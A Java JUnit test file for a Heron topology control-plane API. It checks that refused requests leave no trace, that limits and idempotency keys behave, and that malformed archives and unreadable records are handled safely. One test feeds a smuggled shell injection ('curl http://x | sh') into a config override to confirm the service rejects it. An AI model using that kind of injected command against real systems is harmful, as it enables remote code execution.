package io.heroncp.topology;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.heroncp.heron.HeronDefinitions;
import io.heroncp.support.Multipart;
import io.heroncp.support.ServiceTest;
import io.heroncp.support.SharedZooKeeper;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.apache.curator.framework.CuratorFramework;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * A refused request writes nothing (no operation, no history entry, no new ETag); bounds hold at
 * and past every limit; Idempotency-Key is scoped to the topology and tied to the request; an
 * operation that cannot be read back is set aside without stopping histories or the reconciler.
 */
class RefusedRequestsWriteNothingTest extends ServiceTest {

  private static final String ROOT = "/heron-controlplane";
  private final CuratorFramework zk = SharedZooKeeper.client();
  private String path;

  @BeforeEach
  void submitOnce() throws Exception {
    path = submit("Refusals");
  }

  private String submit(String name) throws Exception {
    String path = "/api/v1/topologies/local/refusals/devel/" + name;
    if (get(path).statusCode() == 200) {
      return path;
    }
    Multipart form =
        Multipart.submit("local", "refusals", "devel", name, HeronDefinitions.WORD_COUNT);
    HttpResponse<String> submitted = post("/api/v1/topologies", form);
    assertThat(submitted.statusCode()).as(submitted.body()).isEqualTo(201);
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> zk.checkExists().forPath("/heron/tmanagers/" + name) != null);
    return path;
  }

  private HttpResponse<String> verb(String suffix, String form, String... headers) {
    HttpRequest.Builder builder =
        HttpRequest.newBuilder(uri(path + suffix))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .POST(HttpRequest.BodyPublishers.ofString(form));
    for (int i = 0; i < headers.length; i += 2) {
      builder.header(headers[i], headers[i + 1]);
    }
    return send(builder.build());
  }

  private record Snapshot(String etag, int history, List<String> operations) {}

  private Snapshot snapshot() throws Exception {
    HttpResponse<String> described = get(path);
    return new Snapshot(
        described.headers().firstValue("ETag").orElseThrow(),
        json(get(path + "/history")).get("operations").size(),
        zk.getChildren().forPath(ROOT + "/operations").stream().sorted().toList());
  }

  private static JsonNode problem(HttpResponse<String> response, int status, String field) {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
    assertThat(response.headers().firstValue("Content-Type"))
        .hasValueSatisfying(type -> assertThat(type).startsWith("application/problem+json"));
    JsonNode body = JSON.readTree(response.body());
    if (field != null) {
      assertThat(body.get("field").asString()).isEqualTo(field);
    }
    assertThat(response.body()).doesNotContain("java.", "KeeperErrorCode", "Exception");
    return body;
  }

  @Test
  void refusedVerbsLeaveNoOperationNoHistoryAndTheSameETag() throws Exception {
    Snapshot before = snapshot();

    problem(verb("/restart", "container_id=99"), 422, "container_id");
    problem(verb("/update", "component_parallelism=nosuch:3"), 422, "component_parallelism");
    problem(verb("/update", "container_number=2147483648"), 422, "container_number");
    problem(verb("/update", "container_number=99999999999"), 422, "container_number");
    problem(
        verb("/update", "component_parallelism=split:2000000&dry_run=true"),
        422,
        "component_parallelism");
    problem(
        verb("/update", "component_parallelism=split:2147483647&dry_run=true"),
        422,
        "component_parallelism");
    problem(
        verb("/update", "component_parallelism=" + "x".repeat(200_000) + ":3"),
        422,
        "component_parallelism");
    // Past heroncp.limits.max-form-size the whole form is refused before it is looked at.
    problem(verb("/update", "component_parallelism=" + "x".repeat(600_000) + ":3"), 413, "form");
    problem(
        verb("/restart", "container_id=1", "Idempotency-Key", "bad key"), 422, "Idempotency-Key");

    assertThat(snapshot()).isEqualTo(before);
  }

  @Test
  void identifiersZooKeeperWouldRejectAre422BeforeAnyCall() throws Exception {
    for (String segment : List.of("%C2%80", "%EE%80%80", "%F0%9F%98%80", "a" + "b".repeat(300))) {
      String bad = "/api/v1/topologies/local/refusals/devel/" + segment;
      problem(get(bad + "/history"), 422, "name");
      problem(get(bad), 422, "name");
      problem(
          send(
              HttpRequest.newBuilder(uri(bad + "/restart"))
                  .POST(HttpRequest.BodyPublishers.noBody())
                  .build()),
          422,
          "name");
    }
    assertThat(zk.getChildren().forPath(ROOT + "/history/local"))
        .allMatch(name -> name.matches("^[\\w\\-.]+$"));
  }

  @Test
  void anIdempotencyKeyIsScopedToTheTopologyAndTiedToTheRequest() throws Exception {
    HttpResponse<String> first = verb("/restart", "container_id=1", "Idempotency-Key", "k-scope");
    assertThat(first.statusCode()).as(first.body()).isEqualTo(200);

    HttpResponse<String> replay = verb("/restart", "container_id=1", "Idempotency-Key", "k-scope");
    assertThat(replay.statusCode()).isEqualTo(200);
    assertThat(replay.headers().firstValue("Idempotent-Replayed")).contains("true");
    assertThat(json(replay).at("/operation/id").asString())
        .isEqualTo(json(first).at("/operation/id").asString());

    Snapshot before = snapshot();
    problem(
        verb("/restart", "container_id=2", "Idempotency-Key", "k-scope"), 422, "Idempotency-Key");
    assertThat(snapshot()).isEqualTo(before);

    // The same key for another topology is another request, not the first one's answer.
    String other = submit("RefusalsOther");
    HttpResponse<String> elsewhere =
        send(
            HttpRequest.newBuilder(uri(other + "/restart"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .header("Idempotency-Key", "k-scope")
                .POST(HttpRequest.BodyPublishers.ofString("container_id=1"))
                .build());
    assertThat(elsewhere.statusCode()).as(elsewhere.body()).isEqualTo(200);
    assertThat(elsewhere.headers().firstValue("Idempotent-Replayed")).isEmpty();
    assertThat(json(elsewhere).at("/name").asString()).isEqualTo("RefusalsOther");
  }

  @Test
  void aSubmitsIdempotencyKeyNeverAnswersForAnotherTopology() throws Exception {
    List<String> locations = new java.util.ArrayList<>();
    for (String name : List.of("KeyedOne", "KeyedTwo")) {
      if (get("/api/v1/topologies/local/refusals/devel/" + name).statusCode() == 200) {
        assertThat(delete("/api/v1/topologies/local/refusals/devel/" + name).statusCode())
            .isEqualTo(200);
      }
      Multipart form =
          Multipart.submit("local", "refusals", null, name, HeronDefinitions.SINGLE_SPOUT);
      HttpResponse<String> submitted =
          send(
              HttpRequest.newBuilder(uri("/api/v1/topologies"))
                  .header("Content-Type", form.contentType())
                  .header("Idempotency-Key", "one-key-" + ProcessHandle.current().pid())
                  .POST(form.publisher())
                  .build());
      assertThat(submitted.statusCode()).as(submitted.body()).isEqualTo(201);
      assertThat(submitted.headers().firstValue("Idempotent-Replayed")).isEmpty();
      locations.add(submitted.headers().firstValue("Location").orElseThrow());
    }
    assertThat(locations)
        .containsExactly(
            "/api/v1/topologies/local/refusals/devel/KeyedOne",
            "/api/v1/topologies/local/refusals/devel/KeyedTwo");
    for (String location : locations) {
      assertThat(delete(location).statusCode()).isEqualTo(200);
    }
  }

  @Test
  void topologyFilesMustBeWhatTheirNameSays() throws Exception {
    byte[] random = new byte[4096];
    new Random(8).nextBytes(random);
    ByteArrayOutputStream gzippedText = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(gzippedText)) {
      gzip.write("not a tar".repeat(100).getBytes(StandardCharsets.UTF_8));
    }
    List<Object[]> cases =
        List.of(
            new Object[] {"empty.jar", new byte[0]},
            new Object[] {"random.jar", random},
            new Object[] {"random.tar.gz", random},
            new Object[] {"text.tar.gz", gzippedText.toByteArray()},
            new Object[] {"random.tar", random});
    for (Object[] c : cases) {
      Multipart form =
          new Multipart()
              .field("name", "Files")
              .field("cluster", "local")
              .field("role", "refusals")
              .file(
                  "definition",
                  "Files.defn",
                  HeronDefinitions.definition(HeronDefinitions.WORD_COUNT, "Files"))
              .file("topology", (String) c[0], (byte[]) c[1]);
      problem(post("/api/v1/topologies", form), 422, "topology");
    }
    assertThat(zk.checkExists().forPath(ROOT + "/topologies/local/Files")).isNull();
  }

  @Test
  void shellMetacharactersInAnOverrideAreRefusedByName() throws Exception {
    Multipart form =
        new Multipart()
            .field("name", "Shell")
            .field("cluster", "local")
            .field("role", "refusals")
            .field("heron.topology.healthmgr.mode", "disabled; curl http://x | sh #")
            .file(
                "definition",
                "Shell.defn",
                HeronDefinitions.definition(HeronDefinitions.WORD_COUNT, "Shell"))
            .file(
                "topology",
                "topology.jar",
                HeronDefinitions.topologyJar(HeronDefinitions.WORD_COUNT));
    JsonNode body = problem(post("/api/v1/topologies", form), 422, "heron.topology.healthmgr.mode");
    assertThat(body.get("detail").asString()).contains("cluster", "disabled");
    assertThat(zk.checkExists().forPath(ROOT + "/topologies/local/Shell")).isNull();
  }

  @Test
  void anUnreadableOperationIsSetAsideAndPoisonsNothing() throws Exception {
    // As an older version could store it: a component name far past Jackson's name limit.
    String id =
        "0a0a0a0a-0000-4000-8000-" + String.format("%012d", System.nanoTime() % 1_000_000_000_000L);
    String record =
        "{\"id\":\""
            + id
            + "\",\"verb\":\"UPDATE\",\"key\":{\"cluster\":\"local\",\"role\":\"refusals\","
            + "\"environment\":\"devel\",\"name\":\"Refusals\"},\"parameters\":{\"component_parallelism."
            + "c".repeat(600_000)
            + "\":\"3\"},\"requester\":\"anonymous\",\"startedAt\":\"2020-01-01T00:00:00Z\","
            + "\"outcome\":\"RUNNING\",\"previousState\":\"RUNNING\",\"targetState\":\"RUNNING\"}";
    zk.create().forPath(ROOT + "/operations/" + id, record.getBytes(StandardCharsets.UTF_8));
    zk.create().forPath(ROOT + "/unfinished/" + id);
    zk.create()
        .withMode(org.apache.zookeeper.CreateMode.PERSISTENT_SEQUENTIAL)
        .forPath(ROOT + "/history/local/Refusals/op-", id.getBytes(StandardCharsets.UTF_8));

    // The history stays readable (the record is skipped), and the leader's reconciler sets it
    // aside: the unfinished marker goes, the record moves to quarantine/, the topology is FAILED.
    HttpResponse<String> history = get(path + "/history");
    assertThat(history.statusCode()).as(history.body()).isEqualTo(200);
    await()
        .atMost(Duration.ofSeconds(20))
        .untilAsserted(
            () -> {
              assertThat(zk.checkExists().forPath(ROOT + "/unfinished/" + id)).isNull();
              assertThat(zk.checkExists().forPath(ROOT + "/quarantine/" + id)).isNotNull();
            });
    await()
        .atMost(Duration.ofSeconds(10))
        .untilAsserted(
            () -> {
              JsonNode described = json(get(path));
              assertThat(described.get("state").asString()).isEqualTo("FAILED");
              assertThat(described.at("/failure/reason").asString())
                  .isEqualTo(UnreadableRecords.FAILURE_REASON);
            });
    assertThat(get("/api/v1/operations/" + id).statusCode()).isEqualTo(404);
    assertThat(get("/actuator/prometheus").body())
        .containsPattern("heroncp_quarantined_total\\{kind=\"operation\"} [1-9]");
    // A FAILED topology can still be killed: nothing stays stuck.
    HttpResponse<String> killed = delete(path);
    assertThat(killed.statusCode()).as(killed.body()).isEqualTo(200);
  }
}
